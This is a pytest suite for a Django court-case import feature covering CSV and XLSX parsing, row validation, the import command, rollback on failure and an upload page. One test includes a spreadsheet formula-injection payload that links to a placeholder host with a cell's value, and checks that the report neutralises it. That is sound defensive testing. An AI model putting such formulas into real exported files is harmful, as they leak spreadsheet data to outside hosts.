"""Case-record import (DATA_FORMAT.md): files, the validator, the writer, the command, the page."""

from __future__ import annotations

import csv
import datetime
import io
from pathlib import Path

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse

from cases import services as case_services
from cases import tasks
from cases.choices import AuditAction, CourtLevel, Outcome, Role
from cases.importing import ImportFileError, case_import, open_source, services, uploads
from cases.importing.columns import COLUMNS
from cases.importing.synthetic import write_synthetic_file
from cases.models import AuditEvent, Case, Court, Division, Judge
from courtdash.celery import app as celery_app
from tests.factories import CourtFactory, UserFactory

pytestmark = pytest.mark.django_db
D = datetime.date
NAMES = [column.name for column in COLUMNS]
CHINESE = {column.name: column.header for column in COLUMNS}


def record(**fields) -> dict:
    """A valid row of a basic court's civil first-instance case, with `fields` changed."""
    return {
        "case_number": "（2025）苏0505民初1号",
        "division": "民一庭",
        "judge_id": "J0107",
        "judge_name": "王磊",
        "track": "summary",
        "cause": "民间借贷纠纷",
        "filed_on": "2025-03-02",
        **fields,
    }


def write_csv(path: Path, rows: list[dict], *, encoding="utf-8", chinese=False, extra=()) -> Path:
    header = [name for name in NAMES if any(name in row for row in rows)] + list(extra)
    with path.open("w", encoding=encoding, newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow([CHINESE.get(name, name) if chinese else name for name in header])
        for row in rows:
            writer.writerow(["" if row.get(name) is None else row.get(name) for name in header])
    return path


def run(path: Path, **options):
    return case_import(sources=[open_source(path)], **options)


def run_command(*args) -> tuple[int, str, str]:
    """Exit status, standard output and error of import_cases."""
    out, err = io.StringIO(), io.StringIO()
    try:
        call_command("import_cases", *map(str, args), stdout=out, stderr=err)
    except SystemExit as exit_:
        return exit_.code, out.getvalue(), err.getvalue()
    return 0, out.getvalue(), err.getvalue()


def database_state() -> dict:
    """Everything an import may touch, to compare before and after a failed run."""
    return {
        "cases": list(Case.objects.order_by("id").values()),
        "courts": list(Court.objects.order_by("id").values()),
        "divisions": list(Division.objects.order_by("id").values()),
        "judges": list(Judge.objects.order_by("id").values()),
        "audit": AuditEvent.objects.count(),
    }


# --- a good file -------------------------------------------------------------------------------


def test_import_creates_cases_and_the_courts_divisions_judges_they_name(tmp_path):
    path = write_csv(
        tmp_path / "cases.csv",
        [
            record(
                court_code="苏0505",
                court_name="苏州市虎丘区人民法院",
                closed_on="2025-05-20",
                closing_method="mediation",
                extension_days="0",
                excluded_days="10",
            ),
            record(
                case_number="(2025)苏05民终88号",
                division="民二庭",
                judge_id="J0211",
                judge_name="李娜",
                track="",
                filed_on="2025-04-11",
            ),
            record(
                case_number="（2025）苏0505执12号",
                division="执行局",
                judge_id="J0300",
                judge_name="赵强",
                track="",
                amount_applied="1,200,000.50",
                amount_recovered="0",
            ),
        ],
    )

    result = run(path)

    assert result.counts() == {"created": 3, "updated": 0, "unchanged": 0, "rejected": 0}
    basic = Court.objects.get(code="苏0505")
    intermediate = Court.objects.get(code="苏05")
    assert (basic.name, basic.level, basic.parent) == (
        "苏州市虎丘区人民法院",
        CourtLevel.BASIC,
        intermediate,
    )
    assert (intermediate.name, intermediate.level) == ("苏05", CourtLevel.INTERMEDIATE)
    first = Case.objects.get(case_number="（2025）苏0505民初1号")
    assert (first.court, first.division.name, first.judge.staff_id, first.judge.name) == (
        basic,
        "民一庭",
        "J0107",
        "王磊",
    )
    assert (first.track, first.closed_on, first.closing_method, first.excluded_days) == (
        "summary",
        D(2025, 5, 20),
        "mediation",
        10,
    )
    assert first.deadline == D(2025, 6, 2) + datetime.timedelta(days=10)  # 3 months + excluded
    appeal = Case.objects.get(case_number="（2025）苏05民终88号")  # stored full-width
    assert (appeal.court, appeal.track, appeal.deadline) == (intermediate, "", D(2025, 7, 11))
    enforcement = Case.objects.get(case_number="（2025）苏0505执12号")
    assert str(enforcement.amount_applied) == "1200000.50"
    assert (result.courts_created, result.divisions_created, result.judges_created) == (2, 3, 3)


def test_first_instance_track_defaults_to_ordinary(tmp_path):
    run(write_csv(tmp_path / "a.csv", [record(track="")]))

    case = Case.objects.get()
    assert case.track == "ordinary"
    assert case.deadline == D(2025, 9, 2)


def test_import_writes_one_audit_event_with_the_summary(tmp_path):
    path = write_csv(tmp_path / "a.csv", [record(), record(case_number="（2025）苏0505民初2号")])

    run(path)

    event = AuditEvent.objects.get(action=AuditAction.CASE_IMPORT)
    assert event.detail["created"] == 2
    assert event.detail["rejected"] == 0
    assert event.object_id == "a.csv"


def test_reimporting_the_same_file_changes_nothing(tmp_path):
    path = write_csv(
        tmp_path / "a.csv",
        [
            record(closed_on="2025-05-20", closing_method="调解", appealed="否"),
            record(case_number="（2025）苏0505执1号", track="", amount_applied="100.5"),
        ],
    )
    run(path)
    before = list(Case.objects.order_by("id").values())

    result = run(path)

    assert result.counts() == {"created": 0, "updated": 0, "unchanged": 2, "rejected": 0}
    assert list(Case.objects.order_by("id").values()) == before  # not even updated_at moved


def test_a_changed_row_updates_its_case_and_a_judge_rename_updates_the_judge(tmp_path):
    run(write_csv(tmp_path / "a.csv", [record(), record(case_number="（2025）苏0505民初2号")]))

    result = run(
        write_csv(
            tmp_path / "b.csv",
            [
                record(closed_on="2025-06-01", closing_method="judgment", judge_name="王磊磊"),
                record(case_number="（2025）苏0505民初2号", judge_name="王磊磊"),
            ],
        )
    )

    assert result.counts() == {"created": 0, "updated": 1, "unchanged": 1, "rejected": 0}
    assert Case.objects.get(case_number="（2025）苏0505民初1号").closed_on == D(2025, 6, 1)
    assert Judge.objects.get(staff_id="J0107").name == "王磊磊"
    assert result.judges_updated == 1


def test_dry_run_counts_exactly_and_writes_nothing(tmp_path):
    run(write_csv(tmp_path / "a.csv", [record()]))
    before = database_state()
    path = write_csv(
        tmp_path / "b.csv",
        [
            record(cause="买卖合同纠纷"),
            record(case_number="（2025）苏0506民初1号"),
            record(case_number="bad"),
        ],
    )

    result = run(path, dry_run=True, sample_size=5)

    assert result.counts() == {"created": 1, "updated": 1, "unchanged": 0, "rejected": 1}
    assert result.samples["created"] == [{"row": 3, "case_number": "（2025）苏0506民初1号"}]
    assert result.samples["updated"][0]["changes"] == ["案由"]
    assert database_state() == before


# --- every kind of bad row ---------------------------------------------------------------------

BAD_ROWS = [
    (
        "malformed_case_number",
        {"case_number": "2025苏0505民初1号"},
        "case_number",
        "案号格式不正确",
    ),
    (
        "unknown_type_code",
        {"case_number": "（2025）苏0505民怪1号"},
        "case_number",
        "未知的类型代字",
    ),
    ("missing_case_number", {"case_number": ""}, "case_number", "案号为必填项"),
    (
        "court_code_differs",
        {"court_code": "苏0506"},
        "court_code",
        "与案号中的法院代码“苏0505”不一致",
    ),
    ("missing_division", {"division": ""}, "division", "承办部门为必填项"),
    ("missing_judge_id", {"judge_id": ""}, "judge_id", "承办人工号为必填项"),
    ("missing_judge_name", {"judge_name": ""}, "judge_name", "承办人为必填项"),
    ("too_long_division", {"division": "庭" * 51}, "division", "超过50个字符"),
    ("unknown_track", {"track": "fast"}, "track", "不是可接受的值"),
    ("civil_fast_track", {"track": "fast_track"}, "track", "民事一审案件不能适用速裁程序"),
    (
        "criminal_small_claims",
        {"case_number": "（2025）苏0505刑初1号", "track": "小额诉讼程序"},
        "track",
        "刑事一审案件不能适用小额诉讼程序",
    ),
    (
        "administrative_fast_track",
        {"case_number": "（2025）苏0505行初1号", "track": "速裁程序"},
        "track",
        "行政一审案件不能适用速裁程序",
    ),
    (
        "summary_at_intermediate_court",
        {"case_number": "（2025）苏05民初1号", "track": "summary"},
        "track",
        "简易程序只适用于基层人民法院",
    ),
    (
        "track_on_appeal",
        {"case_number": "（2025）苏05民终1号", "track": "ordinary"},
        "track",
        "只适用于一审案件",
    ),
    ("missing_filed_on", {"filed_on": ""}, "filed_on", "立案日期为必填项"),
    ("bad_date", {"filed_on": "2025-02-30"}, "filed_on", "不是有效日期"),
    ("filed_in_future", {"filed_on": "2025-07-01"}, "filed_on", "晚于今天（2025-06-30）"),
    ("filed_year_differs", {"filed_on": "2024-12-31"}, "filed_on", "与案号年份（2025）不一致"),
    (
        "closed_before_filed",
        {"closed_on": "2025-03-01", "closing_method": "judgment"},
        "closed_on",
        "早于立案日期",
    ),
    (
        "closed_in_future",
        {"closed_on": "2025-07-01", "closing_method": "judgment"},
        "closed_on",
        "晚于今天",
    ),
    ("closed_without_method", {"closed_on": "2025-05-01"}, "closing_method", "必须填写结案方式"),
    (
        "unknown_closing_method",
        {"closed_on": "2025-05-01", "closing_method": "won"},
        "closing_method",
        "不是可接受的值",
    ),
    (
        "method_without_closing",
        {"closing_method": "judgment"},
        "closing_method",
        "不应填写结案方式",
    ),
    ("negative_integer", {"extension_days": "-5"}, "extension_days", "不是非负整数"),
    ("fractional_integer", {"excluded_days": "1.5"}, "excluded_days", "不是非负整数"),
    ("negative_amount", {"amount_applied": "-1"}, "amount_applied", "不是非负金额"),
    ("text_amount", {"amount_recovered": "many"}, "amount_recovered", "不是非负金额"),
    ("bad_boolean", {"appealed": "maybe"}, "appealed", "应为 true/false、1/0 或 是/否"),
    ("bad_outcome", {"appeal_outcome": "won"}, "appeal_outcome", "不是可接受的值"),
    ("bad_retrial_outcome", {"retrial_outcome": "重审"}, "retrial_outcome", "不是可接受的值"),
    ("bad_origin", {"origin_case_number": "（2025）苏0505"}, "origin_case_number", "原审案号"),
    (
        "origin_is_itself",
        {"origin_case_number": "(2025)苏0505民初1号"},
        "origin_case_number",
        "不能与案号相同",
    ),
    ("bad_hearing_held", {"hearing_held": "sometimes"}, "hearing_held", "应为 true/false"),
    ("bad_appeal_lodged_on", {"appeal_lodged_on": "2025-13-01"}, "appeal_lodged_on", "上诉日期"),
    (
        "appeal_lodged_in_the_future",
        {"closed_on": "2025-05-01", "closing_method": "judgment", "appeal_lodged_on": "2025-07-01"},
        "appeal_lodged_on",
        "晚于今天",
    ),
    (
        "appeal_lodged_before_the_closing",
        {"closed_on": "2025-05-01", "closing_method": "judgment", "appeal_lodged_on": "2025-04-30"},
        "appeal_lodged_on",
        "早于结案日期",
    ),
    (
        "appeal_transferred_before_it_was_lodged",
        {
            "closed_on": "2025-05-01",
            "closing_method": "judgment",
            "appeal_lodged_on": "2025-05-10",
            "appeal_transferred_on": "2025-05-09",
        },
        "appeal_transferred_on",
        "早于上诉日期",
    ),
    (
        "appeal_transferred_in_the_future",
        {"appeal_transferred_on": "2025-07-01"},
        "appeal_transferred_on",
        "晚于今天",
    ),
]


@pytest.mark.parametrize(
    ("fields", "column", "message"),
    [case[1:] for case in BAD_ROWS],
    ids=[case[0] for case in BAD_ROWS],
)
def test_import_rejects_a_bad_row_with_its_row_column_and_message(
    tmp_path, fields, column, message
):
    good = record(case_number="（2025）苏0505民初99号")
    path = write_csv(tmp_path / "a.csv", [good, record(**fields)], chinese=True)

    result = run(path)

    assert result.counts() == {"created": 1, "updated": 0, "unchanged": 0, "rejected": 1}
    assert [(error.row, error.column) for error in result.errors] == [(3, CHINESE[column])]
    assert message in result.errors[0].message
    assert Case.objects.get().case_number == "（2025）苏0505民初99号"


def test_the_later_of_two_rows_with_one_case_number_is_rejected(tmp_path):
    path = write_csv(
        tmp_path / "a.csv",
        [
            record(),
            record(case_number="（2025）苏0505民初2号"),
            record(case_number="(2025)苏0505民初1号"),
        ],
    )

    result = run(path)

    assert result.counts()["rejected"] == 1
    assert [(e.row, e.column, e.message) for e in result.errors] == [
        (4, "case_number", "与第2行案号相同")
    ]
    assert Case.objects.count() == 2


def test_duplicates_are_found_across_chunks(tmp_path, monkeypatch):
    monkeypatch.setattr(services, "CHUNK_ROWS", 2)
    rows = [record(case_number=f"（2025）苏0505民初{n}号") for n in range(1, 6)]
    rows.append(record(case_number="（2025）苏0505民初2号", cause="x"))  # row 7, chunk 3

    result = run(write_csv(tmp_path / "a.csv", rows))

    assert result.counts() == {"created": 5, "updated": 0, "unchanged": 0, "rejected": 1}
    assert [(e.row, e.message) for e in result.errors] == [(7, "与第3行案号相同")]
    assert Case.objects.get(case_number="（2025）苏0505民初2号").cause == "民间借贷纠纷"


def test_a_row_with_several_errors_lists_them_all(tmp_path):
    result = run(write_csv(tmp_path / "a.csv", [record(division="", filed_on="2026-01-01")]))

    assert [e.column for e in result.errors] == ["division", "filed_on", "filed_on"]
    assert result.rejected == 1


# --- formats ----------------------------------------------------------------------------------


def test_chinese_headers_and_chinese_enum_words_are_accepted(tmp_path):
    path = write_csv(
        tmp_path / "a.csv",
        [
            record(
                track="简易程序",
                closed_on="2025年5月20日",
                closing_method="调解",
                appealed="是",
                appeal_outcome="维持",
                filed_on="2025/3/2",
            )
        ],
        chinese=True,
    )

    result = run(path)

    assert result.counts()["created"] == 1, result.errors
    case = Case.objects.get()
    assert (case.track, case.closing_method, case.appealed, case.appeal_outcome) == (
        "summary",
        "mediation",
        True,
        Outcome.AFFIRMED,
    )
    assert (case.filed_on, case.closed_on) == (D(2025, 3, 2), D(2025, 5, 20))


def test_errors_name_the_column_as_the_file_does(tmp_path):
    result = run(write_csv(tmp_path / "a.csv", [record(division="")], chinese=True))

    assert (result.errors[0].column, result.errors[0].message) == ("承办部门", "承办部门为必填项")


@pytest.mark.parametrize("encoding", ["gb18030", "utf-8-sig", "utf-8"])
def test_csv_in_gb18030_or_utf8_with_or_without_bom_is_read(tmp_path, encoding):
    path = write_csv(tmp_path / "a.csv", [record()], encoding=encoding, chinese=True)

    result = run(path)

    assert result.counts()["created"] == 1, result.errors
    assert Judge.objects.get().name == "王磊"


def test_xlsx_first_sheet_with_excel_date_cells_is_read(tmp_path):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(
        [
            "案号",
            "承办部门",
            "承办人工号",
            "承办人",
            "立案日期",
            "结案日期",
            "结案方式",
            "延长审限天数",
        ]
    )
    sheet.append(
        ["（2025）苏0505民初7号", "民一庭", 107, "王磊", D(2025, 3, 2), D(2025, 5, 20), "判决", 30]
    )
    sheet.append(
        [
            "（2025）苏0505民初8号",
            "民一庭",
            107,
            "王磊",
            datetime.datetime(2025, 4, 1),
            None,
            None,
            None,
        ]
    )
    sheet.append([None] * 8)  # trailing empty rows are skipped
    book.create_sheet("其他").append(["ignored"])
    path = tmp_path / "a.xlsx"
    book.save(path)

    result = run(path)

    assert result.counts()["created"] == 2, result.errors
    case = Case.objects.get(case_number="（2025）苏0505民初7号")
    assert (case.filed_on, case.closed_on, case.extension_days) == (
        D(2025, 3, 2),
        D(2025, 5, 20),
        30,
    )
    assert case.judge.staff_id == "107"


def test_xlsx_errors_carry_the_sheet_row_number(tmp_path):
    book = openpyxl.Workbook()
    book.active.append(["case_number", "division", "judge_id", "judge_name", "filed_on"])
    book.active.append(["（2025）苏0505民初7号", "民一庭", "J1", "王磊", D(2025, 3, 2)])
    book.active.append(["（2025）苏0505民初8号", "民一庭", "J1", "王磊", D(2024, 3, 2)])
    book.save(tmp_path / "a.xlsx")

    result = run(tmp_path / "a.xlsx")

    assert [(e.row, e.column) for e in result.errors] == [(3, "filed_on")]


def test_unknown_columns_are_ignored_and_reported_once(tmp_path):
    path = write_csv(
        tmp_path / "a.csv",
        [record(), record(case_number="（2025）苏0505民初2号")],
        extra=["备注", "party"],
    )

    code, out, _err = run_command(path)

    assert code == 0
    assert out.count("已忽略未知列：备注、party") == 1
    assert Case.objects.count() == 2


# --- the command ------------------------------------------------------------------------------


def test_command_exits_0_when_every_row_is_accepted(tmp_path):
    code, out, _err = run_command(write_csv(tmp_path / "a.csv", [record()]))

    assert code == 0
    assert "新增 1 条，更新 0 条，未变 0 条，拒绝 0 条" in out


def test_command_exits_1_and_keeps_the_good_rows_when_some_are_rejected(tmp_path):
    path = write_csv(
        tmp_path / "a.csv", [record(), record(case_number="（2025）苏0505民初2号", division="")]
    )

    code, out, _err = run_command(path)

    assert code == 1
    assert "新增 1 条，更新 0 条，未变 0 条，拒绝 1 条" in out
    assert "第3行" in out
    assert Case.objects.count() == 1


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (None, "无法打开文件"),
        (b"", "文件为空或没有表头"),
        ("案号,承办部门\n（2025）苏0505民初1号,民一庭\n".encode(), "表头缺少必需的列"),
        ("case_number,案号,division,judge_id,judge_name,filed_on\n".encode(), "是同一列"),
        (b"PK\x03\x04 not really a workbook", "不是可读取的XLSX文件"),
    ],
    ids=["missing", "empty", "missing_columns", "same_column_twice", "broken_xlsx"],
)
def test_command_exits_2_and_changes_nothing_when_a_file_cannot_be_read(tmp_path, content, message):
    good = write_csv(tmp_path / "good.csv", [record()])
    bad = tmp_path / "bad.csv"
    if content is not None:
        bad.write_bytes(content)

    code, _out, err = run_command(good, bad)

    assert code == 2
    assert message in err
    assert Case.objects.count() == 0


def test_command_exits_2_and_changes_nothing_when_a_file_breaks_halfway(tmp_path, monkeypatch):
    monkeypatch.setattr(services, "CHUNK_ROWS", 100)  # chunks are written before the break
    good = write_csv(tmp_path / "good.csv", [record()])
    broken = tmp_path / "broken.csv"
    # Past the first 64 KiB that decide the encoding, a character cut in half.
    lines = "case_number,division,judge_id,judge_name,filed_on\n" + "".join(
        f"（2025）苏0505民初{n}号,民一庭,J1,王磊,2025-03-02\n" for n in range(10, 2000)
    )
    broken.write_bytes(lines.encode() + "（2025）苏0505民初9号,民一庭,J1,王".encode()[:-1] + b"\n")

    report = tmp_path / "report.csv"

    code, _out, err = run_command(good, broken, "--report", report)

    assert code == 2
    assert "无法读取" in err
    assert Case.objects.count() == 0
    assert not report.exists()


def test_the_report_writes_imported_text_as_text_never_as_a_formula(tmp_path):
    """Issue 10: a rejected row's case number comes back in the report; opened in a spreadsheet
    it must not be a live formula."""
    formula = '=HYPERLINK("http://x/?"&A2,"详情")'
    path = write_csv(tmp_path / "a.csv", [record(case_number=formula)], chinese=True)
    report = tmp_path / "report.csv"

    code, _out, _err = run_command(path, "--report", report)

    assert code == 1
    [_header, line] = list(csv.reader(report.open(encoding="utf-8-sig")))
    assert line[1] == "'" + formula
    assert not any(field.startswith(("=", "+", "-", "@")) for field in line)


def test_command_dry_run_changes_nothing(tmp_path):
    code, out, _err = run_command(write_csv(tmp_path / "a.csv", [record()]), "--dry-run")

    assert code == 0
    assert "试运行" in out
    assert Case.objects.count() == 0


def test_report_has_a_header_and_exactly_one_line_per_rejected_row(tmp_path):
    path = write_csv(
        tmp_path / "a.csv",
        [
            record(),
            record(case_number="（2025）苏0505民初2号", division="", filed_on="2024-01-01"),
            record(case_number="（2025）苏0505民初3号"),
            record(case_number="（2025）苏0505民初4号", cause="逗号,与\n换行"),
            record(case_number="（2025）苏0505民初1号"),
            record(case_number="bad"),
        ],
        chinese=True,
    )
    report = tmp_path / "report.csv"

    code, _out, _err = run_command(path, "--report", report)

    assert code == 1
    lines = list(csv.reader(report.open(encoding="utf-8-sig")))
    assert lines == [
        ["行号", "案号", "错误"],
        [
            "3",
            "（2025）苏0505民初2号",
            "承办部门为必填项；立案日期的年份（2024）与案号年份（2025）不一致",
        ],
        ["6", "（2025）苏0505民初1号", "与第2行案号相同"],
        ["7", "bad", "案号格式不正确：bad"],
    ]
    assert Case.objects.get(case_number="（2025）苏0505民初4号").cause == "逗号,与 换行"


def test_several_files_are_one_run_and_a_later_file_updates_an_earlier_one(tmp_path):
    first = write_csv(tmp_path / "jan.csv", [record()])
    second = write_csv(
        tmp_path / "feb.csv", [record(closed_on="2025-05-01", closing_method="判决")]
    )

    code, out, _err = run_command(first, second)

    assert code == 0
    assert "jan.csv：新增 1 条" in out
    assert "feb.csv：新增 0 条，更新 1 条" in out
    assert Case.objects.get().closed_on == D(2025, 5, 1)
    assert AuditEvent.objects.filter(action=AuditAction.CASE_IMPORT).count() == 1


# --- derived fields: deadlines, appeal and retrial links ---------------------------------------


def test_appeal_makes_its_origin_appealed_and_its_closing_gives_the_outcome(tmp_path):
    origin = record(closed_on="2025-03-20", closing_method="判决")
    appeal = record(
        case_number="（2025）苏05民终5号",
        track="",
        division="民二庭",
        judge_id="Z1",
        judge_name="李娜",
        filed_on="2025-04-11",
        origin_case_number="(2025)苏0505民初1号",
    )
    run(write_csv(tmp_path / "a.csv", [origin, appeal]))
    first = Case.objects.get(case_number="（2025）苏0505民初1号")
    assert (first.effective_appealed, first.effective_appeal_outcome) == (True, "")

    run(
        write_csv(
            tmp_path / "b.csv", [{**appeal, "closed_on": "2025-06-10", "closing_method": "改判"}]
        )
    )

    first.refresh_from_db()
    assert (first.effective_appeal_outcome, first.effective_appeal_decided_on) == (
        Outcome.MODIFIED,
        D(2025, 6, 10),
    )
    assert Case.objects.get(case_number="（2025）苏05民终5号").origin == first


def test_an_appeal_moved_to_another_origin_leaves_the_former_origin_unappealed(tmp_path):
    first = record(closed_on="2025-03-20", closing_method="判决")
    second = record(
        case_number="（2025）苏0505民初2号", closed_on="2025-03-21", closing_method="判决"
    )
    appeal = record(
        case_number="（2025）苏05民终5号",
        track="",
        filed_on="2025-04-11",
        origin_case_number="（2025）苏0505民初1号",
    )
    run(write_csv(tmp_path / "a.csv", [first, second, appeal]))
    assert Case.objects.get(case_number="（2025）苏0505民初1号").effective_appealed is True

    # The source system corrects the appeal's origin: the first case was never appealed.
    run(write_csv(tmp_path / "b.csv", [{**appeal, "origin_case_number": "（2025）苏0505民初2号"}]))

    appealed = dict(Case.objects.values_list("case_number", "effective_appealed"))
    assert appealed["（2025）苏0505民初1号"] is False
    assert appealed["（2025）苏0505民初2号"] is True


def test_an_origin_arriving_after_its_appeal_is_linked(tmp_path):
    run(
        write_csv(
            tmp_path / "a.csv",
            [
                record(
                    case_number="（2025）苏05民终5号",
                    track="",
                    filed_on="2025-04-11",
                    closed_on="2025-06-01",
                    closing_method="发回重审",
                    origin_case_number="（2025）苏0505民初1号",
                )
            ],
        )
    )

    run(write_csv(tmp_path / "b.csv", [record(closed_on="2025-03-20", closing_method="判决")]))

    first = Case.objects.get(case_number="（2025）苏0505民初1号")
    assert (first.effective_appealed, first.effective_appeal_outcome) == (True, Outcome.REMANDED)


def test_closed_retrial_gives_its_origin_the_retrial_outcome(tmp_path):
    rows = [
        record(
            case_number="（2024）苏0505民初1号",
            filed_on="2024-03-02",
            closed_on="2024-06-01",
            closing_method="判决",
        ),
        record(
            case_number="（2025）苏05民再3号",
            track="",
            filed_on="2025-02-01",
            closed_on="2025-06-01",
            closing_method="维持原判",
            origin_case_number="（2024）苏0505民初1号",
        ),
    ]

    run(write_csv(tmp_path / "a.csv", rows))

    first = Case.objects.get(case_number="（2024）苏0505民初1号")
    assert (first.effective_retrial_outcome, first.effective_retrial_decided_on) == (
        Outcome.AFFIRMED,
        D(2025, 6, 1),
    )
    assert first.effective_appealed is False


def test_values_written_on_the_origin_itself_win_field_by_field(tmp_path):
    rows = [
        record(closed_on="2025-03-20", closing_method="判决", appeal_outcome="维持"),
        record(
            case_number="（2025）苏05民终5号",
            track="",
            filed_on="2025-04-11",
            closed_on="2025-06-10",
            closing_method="改判",
            origin_case_number="（2025）苏0505民初1号",
        ),
    ]

    run(write_csv(tmp_path / "a.csv", rows))

    first = Case.objects.get(case_number="（2025）苏0505民初1号")
    assert (first.effective_appeal_outcome, first.effective_appeal_decided_on) == (
        Outcome.AFFIRMED,  # its own value
        D(2025, 6, 10),  # from the appeal: the record gave no date
    )


def test_imported_derived_fields_agree_with_a_full_refresh(tmp_path):
    rows = [
        record(track="small_claims", extension_days="30", excluded_days="7"),
        record(case_number="（2025）苏0505民初2号", deadline_on="2025-12-31"),
        record(case_number="（2025）苏0505刑初1号", track="速裁", filed_on="2025-06-20"),
        record(case_number="（2025）苏0505民特1号", track=""),
        record(case_number="（2025）苏0505民督1号", track=""),
        record(case_number="（2025）苏0505执1号", track=""),
        record(
            case_number="（2025）苏05民终1号", track="", origin_case_number="（2025）苏0505民初1号"
        ),
    ]
    run(write_csv(tmp_path / "a.csv", rows))
    imported = list(Case.objects.order_by("id").values())

    case_services.case_derived_refresh(case_ids=None)

    assert list(Case.objects.order_by("id").values()) == imported
    assert Case.objects.get(case_number="（2025）苏0505民督1号").deadline is None


def test_large_imports_refresh_derived_fields_in_one_pass(tmp_path, monkeypatch):
    monkeypatch.setattr(services, "TARGETED_REFRESH_MAX", 1)
    rows = [
        record(closed_on="2025-03-20", closing_method="判决"),
        record(
            case_number="（2025）苏05民终5号",
            track="",
            filed_on="2025-04-11",
            origin_case_number="（2025）苏0505民初1号",
        ),
    ]

    run(write_csv(tmp_path / "a.csv", rows))

    assert Case.objects.get(case_number="（2025）苏0505民初1号").effective_appealed is True


# --- all or nothing -----------------------------------------------------------------------------


def test_a_failure_after_the_upsert_leaves_the_database_as_before(tmp_path, monkeypatch):
    run(write_csv(tmp_path / "a.csv", [record()]))
    before = database_state()

    def broken_refresh(**kwargs):
        raise RuntimeError("connection lost")

    monkeypatch.setattr(case_services, "case_derived_refresh", broken_refresh)
    path = write_csv(
        tmp_path / "b.csv",
        [
            record(cause="买卖合同纠纷", judge_name="改名"),
            record(
                case_number="（2025）苏0582民初1号",
                division="新庭",
                judge_id="N1",
                judge_name="新人",
            ),
        ],
    )

    with pytest.raises(RuntimeError, match="connection lost"):
        run(path)

    assert database_state() == before


def test_a_failure_on_the_writing_thread_leaves_the_database_as_before(tmp_path, monkeypatch):
    monkeypatch.setattr(services, "CHUNK_ROWS", 1)
    run(write_csv(tmp_path / "a.csv", [record()]))
    before = database_state()
    calls = []
    original = services.StagingWriter.write

    def write_then_fail(self, chunk):
        calls.append(chunk)
        if len(calls) == 2:
            raise RuntimeError("disk full")
        return original(self, chunk)

    monkeypatch.setattr(services.StagingWriter, "write", write_then_fail)
    rows = [record(case_number=f"（2025）苏0505民初{n}号") for n in range(2, 6)]

    with pytest.raises(RuntimeError, match="disk full"):
        run(write_csv(tmp_path / "b.csv", rows))

    assert database_state() == before


def test_an_unreadable_source_raises_before_anything_is_written(tmp_path):
    (tmp_path / "a.csv").write_text("foo,bar\n1,2\n")

    with pytest.raises(ImportFileError, match="表头缺少必需的列"):
        open_source(tmp_path / "a.csv")


# --- the upload page ------------------------------------------------------------------------------


@pytest.fixture
def office(settings, tmp_path, monkeypatch):
    """The city's office. The page's runs are Celery tasks: here they run in the request
    (test_import_worker.py runs them on a real worker)."""
    settings.MEDIA_ROOT = tmp_path / "media"
    monkeypatch.setattr(celery_app.conf, "task_always_eager", True)
    monkeypatch.setattr(celery_app.conf, "task_eager_propagates", True)
    return UserFactory(
        role=Role.OFFICE, court=CourtFactory(code="苏05", level=CourtLevel.INTERMEDIATE)
    )


def upload(client, path: Path):
    """Upload, then follow to the upload's page (the run is done by then: eager tasks)."""
    with path.open("rb") as stream:
        return client.post(reverse("cases:import"), {"file": stream}, follow=True)


def confirm(client, token: str):
    return client.post(reverse("cases:import_confirm", args=[token]), follow=True)


def test_upload_previews_then_confirm_imports_that_file_and_the_report_downloads(
    client, office, tmp_path
):
    client.force_login(office)
    path = write_csv(
        tmp_path / "a.csv",
        [record(), record(case_number="（2025）苏0505民初2号", division="")],
        chinese=True,
    )

    assert client.get(reverse("cases:import")).status_code == 200
    preview = upload(client, path)

    assert preview.status_code == 200
    assert preview.redirect_chain[0][1] == 302  # to the upload's own page
    assert Case.objects.count() == 0  # a preview writes nothing
    page = preview.content.decode()
    assert 'data-count="created">1<' in page and 'data-count="rejected">1<' in page
    assert "承办部门为必填项" in page
    assert "未确认的上传文件将在 24 小时后自动删除" in page
    token = preview.context["upload"].token
    report = client.get(reverse("cases:import_report", args=[token]))
    assert report.status_code == 200
    assert b"".join(report.streaming_content).decode("utf-8-sig").splitlines() == [
        "行号,案号,错误",
        "3,（2025）苏0505民初2号,承办部门为必填项",
    ]

    done = confirm(client, token)

    assert done.status_code == 200
    assert done.redirect_chain == [(reverse("cases:import_status", args=[token]), 302)]
    assert Case.objects.get().case_number == "（2025）苏0505民初1号"
    assert 'data-count="created">1<' in done.content.decode()
    event = AuditEvent.objects.get(action=AuditAction.CASE_IMPORT)
    assert (event.user, event.detail["origin"]) == (office, "upload")
    assert client.get(reverse("cases:import_report", args=[token])).status_code == 200
    assert client.post(reverse("cases:import_confirm", args=[token])).status_code == 409
    assert Case.objects.count() == 1


def test_upload_page_is_for_the_office_only(client, office, tmp_path):
    client.force_login(UserFactory(role=Role.JUDGE))

    assert client.get(reverse("cases:import")).status_code == 403


def test_another_user_cannot_confirm_or_download_an_upload(client, office, tmp_path):
    client.force_login(office)
    token = upload(client, write_csv(tmp_path / "a.csv", [record()])).context["upload"].token
    client.force_login(UserFactory(role=Role.OFFICE, court=office.court))

    assert client.post(reverse("cases:import_confirm", args=[token])).status_code == 404
    assert client.get(reverse("cases:import_report", args=[token])).status_code == 404
    assert Case.objects.count() == 0


def test_upload_refuses_a_file_that_is_not_csv_or_xlsx(client, office, tmp_path):
    client.force_login(office)
    (tmp_path / "a.txt").write_text("hello")

    response = upload(client, tmp_path / "a.txt")

    assert response.status_code == 400
    assert "只能导入 CSV 或 XLSX 文件" in response.content.decode()


def test_upload_of_an_unreadable_file_shows_why(client, office, tmp_path):
    client.force_login(office)
    (tmp_path / "a.csv").write_text("foo,bar\n")

    response = upload(client, tmp_path / "a.csv")

    assert response.status_code == 400
    assert "表头缺少必需的列" in response.content.decode()
    leftovers = {path.suffix for path in (tmp_path / "media" / "imports").iterdir()}
    assert leftovers == {".json"}  # the unreadable file is gone; its note says why, a day


def test_while_the_worker_has_not_run_the_page_shows_progress_and_confirm_waits(
    client, office, tmp_path, monkeypatch
):
    monkeypatch.setattr(celery_app.conf, "task_always_eager", False)
    queued = []
    monkeypatch.setattr(tasks.run_upload, "delay", queued.append)  # no worker: nothing runs
    client.force_login(office)
    page = upload(client, write_csv(tmp_path / "a.csv", [record()]))

    token = page.context["upload"].token
    assert queued == [token]
    assert page.context["stage"] == "running"
    html = page.content.decode()
    assert '<meta http-equiv="refresh" content="2">' in html
    assert "排队等待后台处理" in html and "<progress" in html
